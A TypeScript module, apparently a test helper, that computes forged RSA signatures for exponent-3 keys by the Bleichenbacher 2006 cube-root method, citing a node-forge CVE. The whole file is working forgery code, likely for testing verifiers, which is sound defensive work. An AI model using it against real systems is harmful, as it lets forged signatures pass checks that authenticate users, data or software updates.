/** Values of RSA signatures that are made without the private key (Bleichenbacher 2006; CVE-2026-85393 of node-forge). */
import { createHash } from 'node:crypto';

/** DigestInfo of SHA-256 (RFC 8017 §9.2), without the digest. */
const DIGEST_INFO = Buffer.from('3031300d060960864801650304020105000420', 'hex');

/** Octets of a modulus of 2048 bits. */
const LENGTH = 256;

/** The beginning of an encoded message with fewer FF octets than the length requires: the rest may be anything. */
export function shortBlock(data: Uint8Array, padding: number): Buffer {
  const digest = createHash('sha256').update(data).digest();
  return Buffer.concat([Buffer.of(0, 1), Buffer.alloc(padding, 0xff), Buffer.of(0), DIGEST_INFO, digest]);
}

/** A value whose cube begins with the block and ends with garbage: a signature for keys with the exponent 3. */
export function forgedValue(block: Uint8Array): Buffer {
  const low = BigInt(
    `0x${Buffer.from(block)
      .toString('hex')
      .padEnd(2 * LENGTH, '0')}`,
  );
  return octetsOf(cubeRoot(low) + 1n);
}

export function cubed(value: Uint8Array): Buffer {
  return octetsOf(BigInt(`0x${Buffer.from(value).toString('hex')}`) ** 3n);
}

const octetsOf = (number: bigint): Buffer =>
  Buffer.from(number.toString(16).padStart(2 * LENGTH, '0'), 'hex');

/** The largest number whose cube is not larger. */
function cubeRoot(number: bigint): bigint {
  let low = 0n;
  let high = 1n << 700n;
  while (high - low > 1n) {
    const middle = (low + high) / 2n;
    if (middle ** 3n <= number) low = middle;
    else high = middle;
  }
  return low;
}
